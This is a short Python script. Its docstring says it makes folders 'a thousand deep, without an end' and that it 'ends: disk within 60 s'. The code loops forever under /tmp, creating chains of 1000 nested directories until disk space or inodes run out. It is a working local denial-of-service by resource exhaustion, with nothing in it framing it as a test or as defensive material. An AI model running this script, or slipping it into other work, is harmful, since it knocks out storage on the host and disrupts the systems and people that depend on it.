"""Make folders in folders, a thousand deep, without an end.

Ends: disk within 60 s.
"""

import itertools
import os
from pathlib import Path

for chain in itertools.count():
    os.chdir("/tmp")
    Path(f"d{chain}").mkdir()
    os.chdir(f"d{chain}")
    for _ in range(1000):
        Path("d").mkdir()
        os.chdir("d")
